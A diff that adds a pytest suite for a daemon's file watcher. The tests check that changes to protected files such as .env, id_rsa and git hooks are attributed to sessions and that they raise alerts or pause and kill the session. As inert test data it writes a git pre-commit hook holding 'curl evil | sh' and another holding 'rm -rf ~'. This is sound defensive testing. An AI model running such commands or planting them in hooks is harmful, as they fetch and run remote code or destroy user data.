@@ -1,0 +1,184 @@
+"""The watcher in the daemon: history rows, attribution, outcome changes, the tripwire."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+import time
+
+import psutil
+import pytest
+from daemon_harness import DaemonProcess, short_tmp, wait_for, workspace
+
+
+@pytest.fixture
+def setup():
+    ws = workspace()
+    (ws / ".env").write_text("TOKEN=old\n")
+    made = []
+
+    def start(tripwire="alert", extra=()):
+        roots = [ws, *extra]
+        policy = f'tripwire = "{tripwire}"\nwatch = {json.dumps([str(r) for r in roots])}\n'
+        d = DaemonProcess(short_tmp() / "s", policy).start()
+        made.append(d)
+        with d.operator() as op:
+            wait_for(
+                lambda: len(op.call("watch.status")["roots"]) == len(roots) and op.call("watch.status")["ok"]
+            )
+        return d
+
+    yield ws, start
+    for d in made:
+        d.stop()
+
+
+def new_session(op, cwd, command):
+    return op.call("sessions.new", {"argv": ["bash", "--norc", "-c", command], "cwd": str(cwd)})["session"][
+        "id"
+    ]
+
+
+def test_protected_change_by_a_session_is_recorded_with_attribution(setup):
+    ws, start = setup
+    d = start()
+    with d.operator() as op:
+        sid = new_session(op, ws, "sleep 0.3; echo TOKEN=new > .env; sleep 30")
+        rows = wait_for(lambda: op.call("history.query", {"kinds": ["file_event"], "search": ".env"})["rows"])
+        row = rows[0]
+        assert row["session_id"] == sid
+        assert row["reason"] == ".env"
+        assert row["body"]["change"] == "modified"
+        events = op.call("watch.recent", {"protected_only": True})["events"]
+        assert events[0]["attribution"][0]["id"] == sid
+        diff = op.call("watch.diff", {"workspace_root": str(ws), "path": ".env"})["diff"]
+        assert "-TOKEN=old" in diff and "+TOKEN=new" in diff
+        op.call("sessions.kill", {"session": sid, "grace_s": 1})
+
+
+def test_watch_cli_streams_json_lines(setup):
+    ws, start = setup
+    d = start()
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "console",
+            "watch",
+            "--json",
+            "--protected-only",
+            "--state-dir",
+            str(d.state_dir),
+        ],
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        time.sleep(1.0)
+        (ws / "notes.txt").write_text("ordinary\n")
+        (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
+        line = proc.stdout.readline()
+        event = json.loads(line)
+        assert event["path"] == ".git/hooks/pre-commit"
+        assert event["protected"] == ".git/hooks/**"
+        assert event["attribution"] == []  # nobody was running: unattributed
+    finally:
+        proc.terminate()
+        proc.wait(10)
+
+
+def test_exec_outcome_lists_the_changes_it_made(setup):
+    ws, start = setup
+    d = start()
+    r = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "console",
+            "exec",
+            "--json",
+            "--state-dir",
+            str(d.state_dir),
+            "--",
+            "sh",
+            "-c",
+            "echo x > built.txt; mkdir -p out && echo y > out/a.txt",
+        ],
+        cwd=ws,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    changes = json.loads(r.stdout)["result"]["outcome"]["changes"]
+    paths = {c["path"]: c["kind"] for c in changes}
+    assert paths.get("built.txt") == "added"
+    assert paths.get("out/a.txt") == "added"
+
+
+def test_alert_mode_raises_an_alert_event(setup):
+    ws, start = setup
+    d = start("alert")
+    with d.operator() as op:
+        op.subscribe(["watch"])
+        sid = new_session(op, ws, "sleep 0.5; echo k > id_rsa; sleep 30")
+        while (event := op.next_event()).get("change") != "alert":
+            pass
+        assert event["session"] == sid and event["display_path"] == "id_rsa"
+        op.call("sessions.kill", {"session": sid, "grace_s": 1})
+
+
+def test_pause_stops_the_session_until_resumed(setup):
+    ws, start = setup
+    d = start("pause")
+    counter = ws / "counter"
+    with d.operator() as op:
+        sid = new_session(
+            op,
+            ws,
+            "sleep 0.5; echo 'rm -rf ~' > .git/hooks/pre-commit; i=0; while true; do i=$((i+1)); echo $i > counter; sleep 0.1; done",
+        )
+        item = wait_for(lambda: op.call("tripwire.list")["items"])[0]
+        assert item["session"] == sid
+        assert item["summary"] == f"session {sid} modified .git/hooks/pre-commit"
+        assert "+rm -rf ~" in item["diff"]
+        pid = op.call("sessions.get", {"session": sid})["session"]["pid"]
+        assert wait_for(lambda: psutil.Process(pid).status() == psutil.STATUS_STOPPED)
+        before = counter.read_text() if counter.exists() else ""
+        time.sleep(0.5)
+        assert (counter.read_text() if counter.exists() else "") == before  # really stopped
+        op.call("tripwire.resolve", {"id": item["id"], "action": "resume"})
+        wait_for(lambda: counter.exists() and counter.read_text() != before)
+        assert op.call("tripwire.list")["items"] == []
+        rows = op.call("history.query", {"kinds": ["tripwire", "tripwire_resolved"]})["rows"]
+        assert [r["verdict"] for r in rows] == ["resumed", "paused"]
+        op.call("sessions.kill", {"session": sid, "grace_s": 1})
+
+
+def test_pause_then_kill(setup):
+    ws, start = setup
+    d = start("pause")
+    with d.operator() as op:
+        sid = new_session(op, ws, "sleep 0.5; echo x >> .env; sleep 60")
+        item = wait_for(lambda: op.call("tripwire.list")["items"])[0]
+        pid = op.call("sessions.get", {"session": sid})["session"]["pid"]
+        op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
+        assert op.call("sessions.get", {"session": sid})["session"]["status"] == "exited"
+        assert not psutil.pid_exists(pid) or psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
+
+
+def test_attribution_with_two_concurrent_sessions(setup):
+    ws, start = setup
+    ws2 = workspace()
+    d = start("alert", extra=(ws2,))
+    with d.operator() as op:
+        a = new_session(op, ws, "sleep 0.5; echo a > .env.local; sleep 30")
+        b = new_session(op, ws2, "sleep 0.5; echo b > key.pem; sleep 30")
+        events = wait_for(
+            lambda: (e := op.call("watch.recent", {"protected_only": True})["events"]) and len(e) >= 2 and e
+        )
+        by_path = {e["path"]: [x["id"] for x in e["attribution"]] for e in events}
+        assert by_path[".env.local"] == [a]
+        assert by_path["key.pem"] == [b]
+        for sid in (a, b):
+            op.call("sessions.kill", {"session": sid, "grace_s": 1})
